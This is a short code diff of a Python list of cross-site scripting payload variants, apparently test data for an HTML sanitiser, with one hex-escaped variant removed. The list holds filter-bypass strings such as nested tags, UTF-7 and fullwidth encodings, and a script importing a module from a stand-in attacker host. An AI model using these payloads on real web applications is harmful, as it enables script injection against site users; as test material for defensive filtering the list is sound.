@@ -15,7 +15,6 @@ _SCRIPTS = [
     f"<script\x0c>{_ALERT}</script\t>",
     f'<script type="module">import "{_EVIL}/m.js"</script>',
     f"<scr<script>ipt>{_ALERT}</scr</script>ipt>",
-    f"\x3cscript\x3e{_ALERT}\x3c/script\x3e",
     f"+ADw-script+AD4-{_ALERT}+ADw-/script+AD4-",
     f"\u00bcscript\u00be{_ALERT}\u00bc/script\u00be",
     f"\uff1cscript\uff1e{_ALERT}\uff1c/script\uff1e",
